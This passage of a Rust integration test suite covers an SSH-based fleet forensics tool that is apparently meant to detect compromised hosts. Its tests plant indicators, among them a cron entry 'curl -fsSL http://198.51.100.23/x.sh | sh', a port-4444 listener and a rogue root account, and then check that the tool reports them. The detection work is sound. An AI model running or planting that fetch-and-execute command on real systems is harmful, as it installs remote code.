//! The SSH transport on a fleet of real Linux hosts (namespaces with their own
//! sshd), through the real OpenSSH client. Needs root; skips with the reason
//! otherwise (and fails under CI, which must run it).

mod common;

use std::collections::BTreeSet;
use std::path::PathBuf;
use std::time::{Duration, Instant};

use common::Diffy;
use common::fleet::Fleet;
use diffy_core::{Host, HostStatus, PerHost};
use diffy_testkit::conformance::{CollectionCaps, collection};
use diffy_transport_ssh::{SshOptions, SshTransport};

fn ssh_args(fleet: &Fleet) -> Vec<String> {
    vec![
        "--transport".into(),
        "ssh".into(),
        "--target".into(),
        "ssh-config".into(),
        "--ssh-config".into(),
        fleet.ssh_config().display().to_string(),
    ]
}

/// Processes whose command line names `needle`.
fn processes_naming(needle: &str) -> Vec<String> {
    let ps = std::process::Command::new("ps").args(["-eo", "pid,args"]).output().unwrap();
    String::from_utf8_lossy(&ps.stdout)
        .lines()
        .filter(|l| l.contains(needle) && !l.contains("ps -eo"))
        .map(str::to_string)
        .collect()
}

/// A temporary directory of a test's own, given to diffy as `$TMPDIR`, so that
/// what one run leaves behind is not blurred by tests running alongside.
struct OwnTmp(PathBuf);

impl OwnTmp {
    fn new(tag: &str) -> Self {
        let p = PathBuf::from(format!("/tmp/dfy-{tag}-{}", std::process::id()));
        std::fs::create_dir_all(&p).unwrap();
        Self(p)
    }

    fn env(&self) -> &str {
        self.0.to_str().unwrap()
    }

    /// Nothing of the run is left: no file in its `$TMPDIR`, and no `ssh`
    /// (nor anything else) still running with the fleet's ssh_config or the
    /// run's own (which lives in `$TMPDIR`).
    fn assert_nothing_left(&self, fleet: &Fleet) {
        let left: Vec<_> = std::fs::read_dir(&self.0).unwrap().map(|e| e.unwrap().path()).collect();
        assert!(left.is_empty(), "nothing is left in $TMPDIR: {left:?}");
        self.assert_no_ssh_left(fleet);
    }

    fn assert_no_ssh_left(&self, fleet: &Fleet) {
        let mut running = processes_naming(&fleet.ssh_config().display().to_string());
        running.extend(processes_naming(self.env()));
        assert!(running.is_empty(), "no ssh is left running: {running:?}");
    }
}

impl Drop for OwnTmp {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn conformance_over_ssh() {
    let Some(fleet) = Fleet::up(3, "cnf") else { return };
    let transport = SshTransport::new(SshOptions::default().config_file(fleet.ssh_config())).unwrap();
    let hosts: Vec<Host> = fleet.hosts.iter().map(|h| Host::named(h).unwrap()).collect();
    collection(&PerHost::new(transport), &hosts, CollectionCaps::default()).await;
}

#[test]
fn twenty_hosts_three_compromised_are_exactly_the_outliers() {
    let Some(fleet) = Fleet::up(20, "e2e") else { return };
    let (a, b, c) = (fleet.host(4).to_string(), fleet.host(9).to_string(), fleet.host(15).to_string());
    fleet.plant(&a, "listener");
    fleet.plant(&b, "cron");
    fleet.plant(&b, "key");
    fleet.plant(&c, "uid0");
    fleet.plant(&c, "shm");
    let tmp = OwnTmp::new("e2e");
    let d = Diffy::new().env("TMPDIR", tmp.env());
    // The issue's own form: hosts from a file, one per line, settings from an ssh_config.
    d.write("hosts.txt", &(fleet.hosts.join("\n") + "\n"));
    let cfg = fleet.ssh_config().display().to_string();
    let args = [
        "analyze",
        "web",
        "--transport",
        "ssh",
        "--hosts",
        "hosts.txt",
        "--ssh-config",
        &cfg,
        "--payload",
        "shell",
        "--method",
        "cluster",
        "--format",
        "json",
    ];
    let r = d.run(&args);
    assert_eq!(r.code, 1, "{}", r.stderr);
    let report = r.report();
    assert_eq!(report.coverage.collected, 20, "{:?}", report.coverage);
    let outliers: BTreeSet<&str> = report.outliers().map(|h| h.host.as_str()).collect();
    assert_eq!(outliers, BTreeSet::from([a.as_str(), b.as_str(), c.as_str()]), "exactly the three compromised hosts");
    let findings = |h: &str| report.hosts.iter().find(|x| x.host == h).unwrap().findings.clone();
    let has = |h: &str, query: &str, col: &str, needle: &str| {
        findings(h).iter().any(|f| f.query == query && f.row.get(col).is_some_and(|v| v.contains(needle)))
    };
    assert!(
        has(&a, "listening_ports", "port", "4444") && has(&a, "listening_ports", "path", "/tmp/.cache/kworkerd"),
        "{:#?}",
        findings(&a)
    );
    assert!(has(&a, "processes", "path", "/tmp/.cache/kworkerd"), "{:#?}", findings(&a));
    assert!(has(&b, "crontab", "command", "curl -fsSL http://198.51.100.23/x.sh | sh"), "{:#?}", findings(&b));
    assert!(has(&b, "authorized_keys", "comment", "root@kali"), "{:#?}", findings(&b));
    assert!(has(&c, "users", "username", "toor"), "{:#?}", findings(&c));
    assert!(has(&c, "processes", "path", "/dev/shm/[kworker0]"), "{:#?}", findings(&c));
    for h in report.hosts.iter().filter(|h| !outliers.contains(h.host.as_str())) {
        assert!(h.findings.is_empty(), "identical clean hosts have nothing to say: {h:#?}");
    }
    tmp.assert_nothing_left(&fleet);
}

#[test]
fn every_fault_gets_its_status_and_the_others_complete() {
    let Some(fleet) = Fleet::up(7, "flt") else { return };
    let h = |i: usize| fleet.host(i).to_string();
    // A host that refuses our key, one whose key changed, one whose key we do not know.
    fleet.fault(&h(5), "deny-auth");
    fleet.fault(&h(4), "rekey");
    let known = std::fs::read_to_string(fleet.known_hosts()).unwrap();
    std::fs::write(
        fleet.known_hosts(),
        known.lines().filter(|l| !l.starts_with(&format!("{} ", h(6)))).map(|l| format!("{l}\n")).collect::<String>(),
    )
    .unwrap();
    let d = Diffy::new();
    d.write(
        "slow.toml",
        &format!(
            "[[query]]\nname = \"work\"\nshell = '''case $(hostname) in {hang}) sleep 600;; *) sleep 4;; esac; echo done'''\n",
            hang = h(3)
        ),
    );
    // Five of seven hosts fail on purpose: allowed, or the run would be trouble.
    let mut args: Vec<String> =
        ["collect", "fleet", "--payload", "slow.toml", "--deadline", "10s", "--format", "json", "--max-failed", "5"]
            .map(String::from)
            .to_vec();
    args.extend(ssh_args(&fleet));
    let child = d
        .command(&args.iter().map(String::as_str).collect::<Vec<_>>())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    // sshd stops while the payload runs on host 2.
    std::thread::sleep(Duration::from_millis(2000));
    fleet.fault(&h(2), "stop-sshd");
    let t = Instant::now();
    let out = child.wait_with_output().unwrap();
    assert!(t.elapsed() < Duration::from_secs(40), "the hanging host is held to its deadline: {:?}", t.elapsed());
    let m: serde_json::Value =
        serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr)));
    assert_eq!(
        out.status.code(),
        Some(0),
        "some hosts collected: the run completes\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let run = m["id"].as_str().unwrap().to_string();
    let status_in = |run: &str, host: &str| -> (String, String) {
        let r = d.host_result(run, host);
        (r["status"].as_str().unwrap().to_string(), r["message"].as_str().unwrap_or("").to_string())
    };
    let status = |host: &str| status_in(&run, host);
    assert_eq!(status(&h(1)).0, "ok");
    assert_eq!(status(&h(7)).0, "ok");
    let (s, msg) = status(&h(2));
    assert_eq!(s, "unreachable", "sshd stopped mid-run: {msg}");
    assert!(msg.contains("connection was lost"), "{msg}");
    assert_eq!(status(&h(3)).0, "timed_out", "{:?}", status(&h(3)));
    let (s, msg) = status(&h(4));
    assert_eq!(s, "host_key_mismatch", "{msg}");
    assert!(msg.starts_with("THE HOST KEY HAS CHANGED"), "loud: {msg}");
    assert_eq!(status(&h(5)).0, "auth_failed", "{:?}", status(&h(5)));
    assert_eq!(status(&h(6)).0, "host_key_unknown", "{:?}", status(&h(6)));
    let analysis = d.run(&["analyze", "--from", &run, "--format", "json"]);
    let report = analysis.report();
    assert_eq!(report.coverage.failed, 5);
    let shown = report.hosts.iter().find(|x| x.host == h(4)).unwrap();
    assert_eq!(shown.status, HostStatus::HostKeyMismatch);
    assert!(report.warnings[0].contains("presented a CHANGED host key"), "{:?}", report.warnings);
    let human = d.run(&["analyze", "--from", &run]);
    assert!(human.stdout.contains("host_key_mismatch  THE HOST KEY HAS CHANGED"), "{}", human.stdout);

    // Accepting new keys lets the unknown host in; a changed key stays refused.
    let mut args: Vec<String> =
        ["collect", "fleet", "--payload", "shell", "--accept-new-host-keys", "--format", "json"]
            .map(String::from)
            .to_vec();
    args.extend(ssh_args(&fleet));
    let m = d.run(&args.iter().map(String::as_str).collect::<Vec<_>>()).json();
    let second = m["id"].as_str().unwrap();
    assert_eq!(status_in(second, &h(6)).0, "ok", "accept-new lets a new host in");
    assert_eq!(status_in(second, &h(4)).0, "host_key_mismatch", "accept-new still refuses a changed key");
}

#[test]
fn sudo_asking_for_a_password_is_auth_failed() {
    if !common::fleet::sudo_available() {
        return;
    }
    let Some(fleet) = Fleet::up(2, "sdo") else { return };
    for (i, rule) in [(1, "ops ALL=(ALL) NOPASSWD: ALL"), (2, "ops ALL=(ALL) ALL")] {
        let out = fleet.exec(
            fleet.host(i),
            &format!("useradd -m -p '*' -s /bin/sh ops && mkdir -p ~ops/.ssh && cp /root/.ssh/authorized_keys ~ops/.ssh/ && chown -R ops ~ops/.ssh && echo '{rule}' > /etc/sudoers.d/ops && chmod 440 /etc/sudoers.d/ops"),
        );
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    }
    let d = Diffy::new();
    let mut args: Vec<String> =
        ["collect", "fleet", "--payload", "shell", "--ssh-user", "ops", "--sudo", "--format", "json"]
            .map(String::from)
            .to_vec();
    args.extend(ssh_args(&fleet));
    let r = d.run(&args.iter().map(String::as_str).collect::<Vec<_>>());
    let m = r.json();
    let run = m["id"].as_str().unwrap();
    let result = |host: &str| d.host_result(run, host);
    assert_eq!(result(fleet.host(1))["status"], "ok", "passwordless sudo runs the payload as root");
    let denied = result(fleet.host(2));
    assert_eq!(denied["status"], "auth_failed");
    assert!(denied["message"].as_str().unwrap().contains("sudo -n refused to run without a password"), "{denied}");
}

/// How many processes of `fleet`'s host `h` run the marked slow query.
fn running_on(fleet: &Fleet, h: &str, marker: &str) -> u32 {
    // The query shows as `timeout ... sh -c 'sleep 600 # marker'` and `sh -c ...`.
    String::from_utf8_lossy(&fleet.exec(h, &format!("ps -eo args | grep -c '[s]leep 600 # {marker}' || true")).stdout)
        .trim()
        .parse()
        .unwrap_or(0)
}

/// Starts `diffy collect` of a query that sleeps for ten minutes on every
/// host, and returns once it runs everywhere.
fn start_slow_run(fleet: &Fleet, d: &Diffy, tmp: &OwnTmp, marker: &str) -> std::process::Child {
    d.write("slow.toml", &format!("[[query]]\nname = \"slow\"\nshell = '''echo so far; sleep 600 # {marker}'''\n"));
    let mut args: Vec<String> =
        ["collect", "fleet", "--payload", "slow.toml", "--deadline", "10m"].map(String::from).to_vec();
    args.extend(ssh_args(fleet));
    let child = d
        .command(&args.iter().map(String::as_str).collect::<Vec<_>>())
        .env("TMPDIR", tmp.env())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let t = Instant::now();
    while fleet.hosts.iter().any(|h| running_on(fleet, h, marker) == 0) {
        assert!(t.elapsed() < Duration::from_secs(30), "the payload never started everywhere");
        std::thread::sleep(Duration::from_millis(200));
    }
    child
}

/// Waits up to ten seconds for the marked query to be gone from every host.
fn assert_stopped_everywhere(fleet: &Fleet, marker: &str) {
    let t = Instant::now();
    loop {
        let left: Vec<&String> = fleet.hosts.iter().filter(|h| running_on(fleet, h, marker) > 0).collect();
        if left.is_empty() {
            return;
        }
        assert!(t.elapsed() < Duration::from_secs(10), "the payload still runs on {left:?}");
        std::thread::sleep(Duration::from_millis(200));
    }
}

#[test]
fn ctrl_c_over_ssh_leaves_nothing_behind() {
    let Some(fleet) = Fleet::up(4, "int") else { return };
    let d = Diffy::new();
    let tmp = OwnTmp::new("int");
    let marker = format!("diffy-int-{}", std::process::id());
    let child = start_slow_run(&fleet, &d, &tmp, &marker);
    nix::sys::signal::kill(nix::unistd::Pid::from_raw(child.id() as i32), nix::sys::signal::Signal::SIGINT).unwrap();
    let t = Instant::now();
    let out = child.wait_with_output().unwrap();
    assert_eq!(out.status.code(), Some(130), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(t.elapsed() < Duration::from_secs(8), "Ctrl-C ends the run at once: {:?}", t.elapsed());
    assert_stopped_everywhere(&fleet, &marker);
    tmp.assert_nothing_left(&fleet);
    // What the interrupted query had printed is kept, on every host.
    let run = common::only_run(&d.path("diffy-store"));
    for h in &fleet.hosts {
        let result = d.host_result(&run, h);
        assert_eq!(result["status"], "cancelled", "{h}: {result}");
        let slow = &result["queries"][0];
        assert_eq!(slow["status"], "truncated", "{h}: {slow}");
        let kept = std::fs::read_to_string(d.path(&format!("diffy-store/runs/{run}/hosts/{h}/slow.stdout"))).unwrap();
        assert_eq!(kept, "so far\n", "{h}");
    }
}

/// Even a diffy killed outright (no chance to clean up) stops the payloads:
/// its `ssh` children see their input close, the hosts see the end of input,
/// and the script's watchdog stops it.
#[test]
fn a_killed_diffy_still_stops_the_payloads_on_the_hosts() {
    let Some(fleet) = Fleet::up(3, "kil") else { return };
    let d = Diffy::new();
    let tmp = OwnTmp::new("kil");
    let marker = format!("diffy-kil-{}", std::process::id());
    let mut child = start_slow_run(&fleet, &d, &tmp, &marker);
    child.kill().unwrap();
    child.wait().unwrap();
    assert_stopped_everywhere(&fleet, &marker);
    let t = Instant::now();
    while !processes_naming(tmp.env()).is_empty() {
        assert!(t.elapsed() < Duration::from_secs(10), "the ssh children end with their connections");
        std::thread::sleep(Duration::from_millis(200));
    }
    tmp.assert_no_ssh_left(&fleet);
    // A diffy killed outright cannot remove its run's ssh_config: the one
    // file left is that, private, and holds options only.
    let left: Vec<_> = std::fs::read_dir(&tmp.0).unwrap().map(|e| e.unwrap().path()).collect();
    assert_eq!(left.len(), 1, "{left:?}");
    let name = left[0].file_name().unwrap().to_str().unwrap();
    assert!(name.starts_with("diffy-ssh-") && name.ends_with(".conf"), "{left:?}");
    use std::os::unix::fs::PermissionsExt;
    assert_eq!(std::fs::metadata(&left[0]).unwrap().permissions().mode() & 0o777, 0o600);
    std::fs::remove_file(&left[0]).unwrap();
}

/// The payload's view of what the connection brought: an agent socket, an X
/// display, a port forwarded back from the host, a local command run here.
const WHAT_REACHED: &str = r#"[[query]]
name = "reached"
shell = '''echo "agent=${SSH_AUTH_SOCK:-none} display=${DISPLAY:-none}"; echo "remote_forward=$(ss -Hltn 2>/dev/null | grep -c ':7777 ' || true)"'''
"#;

/// The user's ssh_config may forward the agent, X11, ports, and run a local
/// command; none of it reaches a host diffy collects from, which may be the
/// attacker's. Before the fix the host saw the responder's agent socket.
#[test]
fn forwarding_in_the_users_config_never_reaches_a_host() {
    let Some(fleet) = Fleet::up(2, "fwd") else { return };
    let d = Diffy::new();
    let agent_dir = tempfile::tempdir().unwrap();
    let sock = agent_dir.path().join("agent.sock");
    let mut agent = std::process::Command::new("ssh-agent")
        .arg("-D")
        .arg("-a")
        .arg(&sock)
        .stdout(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let t = Instant::now();
    while !sock.exists() {
        assert!(t.elapsed() < Duration::from_secs(10), "ssh-agent did not start");
        std::thread::sleep(Duration::from_millis(50));
    }
    let ran = agent_dir.path().join("local-command-ran");
    let config = d.write(
        "forwarding_config",
        &format!(
            "Host *\n  ForwardAgent yes\n  ForwardX11 yes\n  ForwardX11Trusted yes\n  GSSAPIDelegateCredentials yes\n  RemoteForward 127.0.0.1:7777 127.0.0.1:22\n  LocalForward 127.0.0.1:7778 127.0.0.1:22\n  PermitLocalCommand yes\n  LocalCommand touch {}\n\n{}",
            ran.display(),
            std::fs::read_to_string(fleet.ssh_config()).unwrap()
        ),
    );
    d.write("reached.toml", WHAT_REACHED);
    let r = d
        .command(&[
            "collect",
            "fwd",
            "--transport",
            "ssh",
            "--target",
            "ssh-config",
            "--ssh-config",
            config.to_str().unwrap(),
            "--payload",
            "reached.toml",
            "--format",
            "json",
        ])
        .env("SSH_AUTH_SOCK", &sock)
        .env("DISPLAY", ":0")
        .output()
        .unwrap();
    let _ = agent.kill();
    let _ = agent.wait();
    let m: serde_json::Value = serde_json::from_slice(&r.stdout).unwrap();
    assert_eq!(m["counts"]["collected"], 2, "{m}\n{}", String::from_utf8_lossy(&r.stderr));
    let run = m["id"].as_str().unwrap();
    for h in &fleet.hosts {
        let seen =
            std::fs::read_to_string(d.path(&format!("diffy-store/runs/{run}/hosts/{h}/reached.stdout"))).unwrap();
        assert_eq!(seen, "agent=none display=none\nremote_forward=0\n", "{h}");
    }
    assert!(!ran.exists(), "no LocalCommand ran on the responder's machine");
}

/// Options given on the command line reach only the destination, never a
/// `ProxyJump` hop. A user config that sets nothing under `Host *` and is lax
/// about the bastion's key must still get a strict check against
/// `--known-hosts` on the hop: an unknown or changed bastion key is refused.
/// Before the fix both runs collected every host.
#[test]
fn a_jump_host_gets_the_same_strict_options() {
    let Some(fleet) = Fleet::up(3, "jhk") else { return };
    let bastion = fleet.host(1).to_string();
    fleet.bastion(&bastion, Some("1000:30:2000"));
    let dir = fleet.dir.display().to_string();
    let mut config = format!(
        "Host {bastion}\n  HostName {bastion}\n  User root\n  IdentityFile {dir}/id_ed25519\n  IdentitiesOnly yes\n  StrictHostKeyChecking no\n  UserKnownHostsFile /dev/null\n  ProxyCommand nsenter --net=/run/netns/%n socat - TCP:127.0.0.1:22,nodelay\n"
    );
    for (i, h) in fleet.hosts.iter().enumerate().skip(1) {
        config.push_str(&format!(
            "Host {h}-j\n  HostName 127.0.0.1\n  Port {}\n  HostKeyAlias {h}\n  ProxyJump {bastion}\n  User root\n  IdentityFile {dir}/id_ed25519\n  IdentitiesOnly yes\n",
            10001 + i
        ));
    }
    let d = Diffy::new();
    let config = d.write("lax_config", &config);
    let known = std::fs::read_to_string(fleet.known_hosts()).unwrap();
    let without_bastion: String =
        known.lines().filter(|l| !l.starts_with(&format!("{bastion} "))).map(|l| format!("{l}\n")).collect();
    let other_key = known
        .lines()
        .find(|l| l.starts_with(&format!("{} ", fleet.host(2))))
        .unwrap()
        .split_once(' ')
        .unwrap()
        .1
        .to_string();
    let changed = format!("{without_bastion}{bastion} {other_key}\n");
    d.write("name.toml", "[[query]]\nname = \"name\"\nshell = \"hostname\"\n");
    let collect = |known_hosts: &str| {
        let kh = d.write("kh", known_hosts);
        let mut args = vec!["collect", "jhk", "--transport", "ssh", "--ssh-config", config.to_str().unwrap()];
        args.extend(["--known-hosts", kh.to_str().unwrap(), "--payload", "name.toml", "--format", "json"]);
        let hosts: Vec<String> = fleet.hosts[1..].iter().map(|h| format!("{h}-j")).collect();
        for h in &hosts {
            args.extend(["--host", h.as_str()]);
        }
        let m = d.run(&args).json();
        let run = m["id"].as_str().unwrap().to_string();
        hosts.iter().map(|h| d.host_result(&run, h)).collect::<Vec<_>>()
    };
    // With the bastion's key known, every host is collected through it.
    for r in collect(&known) {
        assert_eq!(r["status"], "ok", "{r}");
    }
    for (keys, status) in [(without_bastion.as_str(), "host_key_unknown"), (changed.as_str(), "host_key_mismatch")] {
        for r in collect(keys) {
            assert_eq!(r["status"], status, "{r}");
        }
    }
}

/// A jump host keeps sshd's default `MaxStartups 10:30:100`, so it closes
/// some of 30 connections that start together before the SSH banner. Those
/// hosts are tried again and every host is collected, each from itself;
/// with one attempt only, the refused hosts are `unreachable` and say why.
#[test]
#[allow(clippy::print_stderr)] // how many were refused is worth seeing in the log
fn through_a_bastion_with_sshds_default_limits_every_host_is_collected() {
    let Some(fleet) = Fleet::up(31, "jmp") else { return };
    let (config, hosts) = fleet.bastion(fleet.host(31), None);
    let d = Diffy::new();
    d.write("name.toml", "[[query]]\nname = \"name\"\nshell = \"hostname\"\n");
    let collect = |attempts: &str| {
        let m = d
            .run(&[
                "collect",
                "jump",
                "--transport",
                "ssh",
                "--hosts",
                hosts.to_str().unwrap(),
                "--ssh-config",
                config.to_str().unwrap(),
                "--payload",
                "name.toml",
                "--concurrency",
                "50",
                "--ssh-connection-attempts",
                attempts,
                "--format",
                "json",
            ])
            .json();
        let run = m["id"].as_str().unwrap().to_string();
        let results: Vec<(String, serde_json::Value)> =
            fleet.hosts[..30].iter().map(|h| (h.clone(), d.host_result(&run, &format!("{h}-j")))).collect();
        (run, results)
    };

    let (run, results) = collect("6");
    let mut retried = 0;
    for (h, r) in &results {
        assert_eq!(r["status"], "ok", "{h}: {r}");
        let name = std::fs::read_to_string(d.path(&format!("diffy-store/runs/{run}/hosts/{h}-j/name.stdout"))).unwrap();
        assert_eq!(name.trim(), h, "{h}-j is reached through the bastion and is {h}");
        if let Some(n) = r["transport"]["attempts"].as_str() {
            retried += 1;
            let refused = r["transport"]["refused_before_banner"].as_str().unwrap();
            // Each refused attempt is recorded, with what ssh said.
            assert_eq!(refused.matches("attempt ").count() + 1, n.parse::<usize>().unwrap(), "{h}: {refused}");
            assert!(refused.starts_with("attempt 1 at +"), "{h}: {refused}");
            assert!(
                refused.contains("kex_exchange_identification") || refused.contains("timed out during banner exchange"),
                "{h}: {refused}"
            );
        }
    }

    let (_, results) = collect("1");
    let mut refused = 0;
    for (h, r) in &results {
        if r["status"] != "ok" {
            refused += 1;
            assert_eq!(r["status"], "unreachable", "{h}: {r}");
            let msg = r["message"].as_str().unwrap();
            assert!(
                msg.contains("closed before the SSH banner, or the banner did not come (1 attempt): sshd does that beyond its MaxStartups"),
                "{h}: {msg}"
            );
        }
    }
    eprintln!(
        "bastion: {retried} of 30 hosts needed more than one attempt; with one attempt, {refused} of 30 were refused"
    );
    assert!(retried + refused > 0, "the bastion's MaxStartups refused no connection: this test showed nothing");
}

/// `--host` with `--target ssh-config` chooses among the file's hosts: a
/// baseline is taken from the hosts the responder named, never from all of
/// them. Before the fix it was taken from every host of the ssh_config.
#[test]
fn host_flags_choose_among_an_ssh_config_targets_hosts() {
    let Some(fleet) = Fleet::up(4, "sel") else { return };
    let d = Diffy::new();
    d.write("name.toml", "[[query]]\nname = \"name\"\nshell = \"hostname\"\n");
    let mut args: Vec<String> =
        ["baseline", "sel", "--payload", "name.toml", "--format", "json"].map(String::from).to_vec();
    args.extend(ssh_args(&fleet));
    let with = |extra: &[&str]| {
        let mut a: Vec<&str> = args.iter().map(String::as_str).collect();
        a.extend(extra);
        d.run(&a)
    };
    let r = with(&["--host", fleet.host(2), "--host", fleet.host(4)]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let m = r.json();
    let hosts: Vec<&str> = m["run"]["hosts"].as_array().unwrap().iter().map(|h| h["id"].as_str().unwrap()).collect();
    assert_eq!(hosts, [fleet.host(2), fleet.host(4)], "{m}");
    let unknown = format!("{}-9", fleet.prefix);
    let r = with(&["--host", &unknown]);
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(r.stderr.contains(&format!("host {unknown} is not a Host entry of")), "{}", r.stderr);
}

/// The README's fleet lines and its ssh lines, run verbatim on a fleet the
/// README's own commands start (only `/srv/fleet` is given a directory of
/// this test's own).
#[test]
fn readme_commands_on_the_fleet() {
    use common::readme::Readme;
    if !common::fleet::available() {
        return;
    }
    const T: &str = "ssh::readme_commands_on_the_fleet";
    let readme = Readme::load();
    let dir = format!("/srv/diffy-readme-{}", std::process::id());
    let sub = [("/srv/fleet", dir.as_str())];
    let d = Diffy::new();
    /// Stops the fleet if the test ends before the README's `down` line.
    struct Down(String);
    impl Drop for Down {
        fn drop(&mut self) {
            if std::path::Path::new(&self.0).exists() {
                let _ = std::process::Command::new(common::fleet::SCRIPT)
                    .args(["down", "--dir", &self.0, "--prefix", "web"])
                    .status();
            }
        }
    }
    let run = |key: &str| {
        let r = d.sh(&readme.line(key, T, &sub));
        (r.code, r)
    };
    let (code, r) = run("sudo tests/fleet/diffy-fleet up 20 --dir /srv/fleet --prefix web");
    let _down = Down(dir.clone());
    assert_eq!(code, 0, "{}\n{}", r.stdout, r.stderr);
    for f in ["ssh_config", "hosts.txt", "known_hosts"] {
        assert!(std::path::Path::new(&dir).join(f).exists(), "up writes {f}");
    }
    let (code, r) = run("sudo tests/fleet/diffy-fleet plant web-4 listener --dir /srv/fleet --prefix web");
    assert_eq!(code, 0, "{}", r.stderr);
    let (code, r) = run("sudo tests/fleet/diffy-fleet bastion web-20 --dir /srv/fleet --prefix web");
    assert_eq!(code, 0, "{}", r.stderr);
    let jump = std::fs::read_to_string(format!("{dir}/ssh_config.jump")).unwrap();
    assert!(jump.contains("ProxyJump web-20"), "{jump}");

    let (code, r) = run("diffy analyze web --transport ssh --target ssh-config --ssh-config /srv/fleet/ssh_config");
    assert_eq!(code, 1, "{}\n{}", r.stdout, r.stderr);
    assert!(r.stdout.contains("Coverage: 20 of 20"), "{}", r.stdout);
    assert!(r.stdout.contains("1 outlier of 20 hosts") && r.stdout.contains("#1 web-4"), "{}", r.stdout);

    // The other ssh lines, from a directory with the fleet's files, and its
    // ssh_config as ~/.ssh/config.
    std::fs::copy(format!("{dir}/ssh_config"), d.path("ssh_config")).unwrap();
    std::fs::copy(format!("{dir}/hosts.txt"), d.path("hosts.txt")).unwrap();
    std::fs::create_dir_all(d.path(".ssh")).unwrap();
    std::fs::copy(format!("{dir}/ssh_config"), d.path(".ssh/config")).unwrap();
    let (code, r) = run(
        "./target/release/diffy analyze web --transport ssh --hosts hosts.txt --ssh-config ~/.ssh/config --payload shell --method cluster",
    );
    assert_eq!(code, 1, "{}\n{}", r.stdout, r.stderr);
    assert!(r.stdout.contains("#1 web-4"), "{}", r.stdout);
    let (code, r) = run("diffy analyze web --transport ssh --hosts hosts.txt --ssh-config ssh_config --format json");
    assert_eq!(code, 1, "{}", r.stderr);
    let outliers: Vec<String> = r.report().outliers().map(|h| h.host.clone()).collect();
    assert_eq!(outliers, ["web-4"]);
    let (code, r) = run("diffy analyze web --transport ssh --target ssh-config --ssh-config ssh_config");
    assert_eq!(code, 1, "{}", r.stderr);
    assert!(r.stdout.contains("Coverage: 20 of 20"), "{}", r.stdout);

    let (code, r) = run("sudo tests/fleet/diffy-fleet down --dir /srv/fleet --prefix web");
    assert_eq!(code, 0, "{}", r.stderr);
    assert!(!std::path::Path::new(&dir).exists(), "down removes the directory");
}

/// Collected as an ordinary user, without sudo, the evidence cannot see root's
/// keys or cron spool: the report says so first (and as data), the run is not
/// presented as a full one (exit 3, PARTIAL VIEW), and nothing hidden is
/// reported missing. With --sudo the same run finds both planted hosts.
#[test]
fn what_an_unprivileged_run_could_not_see_is_said_first() {
    if !common::fleet::sudo_available() {
        return;
    }
    let Some(fleet) = Fleet::up(6, "vis") else { return };
    for h in &fleet.hosts {
        // As on a stock host: /root private, the cron spool as Debian's cron
        // package leaves it (1730), an unlocked account with sudo.
        let out = fleet.exec(
            h,
            "chmod 700 /root && mkdir -p /var/spool/cron/crontabs && chmod 1730 /var/spool/cron/crontabs && \
             useradd -m -p '*' -s /bin/sh ops && mkdir -p ~ops/.ssh && cp /root/.ssh/authorized_keys ~ops/.ssh/ && \
             chown -R ops ~ops/.ssh && echo 'ops ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/ops && \
             chmod 440 /etc/sudoers.d/ops",
        );
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    }
    let (keyed, crond) = (fleet.host(2).to_string(), fleet.host(4).to_string());
    fleet.plant(&keyed, "key");
    fleet.plant(&crond, "cron");
    let out = fleet.exec(&crond, "chmod 600 /var/spool/cron/crontabs/root");
    assert!(out.status.success());

    let d = Diffy::new();
    let run = |extra: &[&str]| {
        let mut args: Vec<String> =
            ["analyze", "fleet", "--payload", "shell", "--method", "cluster", "--ssh-user", "ops"]
                .map(String::from)
                .to_vec();
        args.extend(ssh_args(&fleet));
        args.extend(extra.iter().map(|s| s.to_string()));
        d.run(&args.iter().map(String::as_str).collect::<Vec<_>>())
    };
    let human = run(&[]);
    assert_eq!(human.code, 3, "nothing found, on a partial view:\n{}\n{}", human.stdout, human.stderr);
    let first = human.stdout.lines().next().unwrap();
    assert!(first.ends_with(", PARTIAL VIEW)"), "{first}");
    let second = human.stdout.lines().nth(1).unwrap();
    assert_eq!(second, "Could not see everything on 6 of 6 analysed hosts:");
    for says in [
        "collected as ops (uid ",
        "without root, although sudo -n would have worked: 6 hosts",
        "authorized_keys could not read, on 6 hosts: /root/.ssh",
        "crontab could not read, on 6 hosts: /var/spool/cron/crontabs",
        "collect again as root (--sudo with the ssh transport)",
        "No outliers among 6 hosts in what their evidence could see, which is not everything",
    ] {
        assert!(human.stdout.contains(says), "{says:?} in:\n{}", human.stdout);
    }

    let json = run(&["--format", "json"]);
    assert_eq!(json.code, 3, "{}", json.stderr);
    let report = json.report();
    let v = &report.visibility;
    assert_eq!((v.partial, v.unknown, v.mixed_privileges), (6, 0, false), "{v:#?}");
    assert_eq!(v.collected_as.len(), 1, "{v:#?}");
    assert_eq!(v.collected_as[0].hosts, 6);
    assert!(v.collected_as[0].user.starts_with("ops (uid "), "{v:#?}");
    let q = |name: &str| v.queries.iter().find(|q| q.query == name).unwrap_or_else(|| panic!("{name} in {v:#?}"));
    assert_eq!(q("authorized_keys").hosts, 6);
    assert_eq!(q("crontab").first, ["/var/spool/cron/crontabs"]);
    let h = report.hosts.iter().find(|h| h.host == keyed).unwrap();
    let vantage = h.vantage.as_ref().expect("each host says how it was collected");
    assert_eq!(vantage.user.as_deref(), Some("ops"));
    assert_eq!(vantage.sudo_available.as_deref(), Some("yes"));
    assert!(h.unseen.iter().any(|u| u.query == "authorized_keys"), "{h:#?}");
    assert!(report.hosts.iter().all(|h| !h.outlier), "the plants were out of sight");

    let sudo = run(&["--sudo", "--format", "json"]);
    assert_eq!(sudo.code, 1, "{}\n{}", sudo.stdout, sudo.stderr);
    let report = sudo.report();
    let outliers: BTreeSet<String> = report.outliers().map(|h| h.host.clone()).collect();
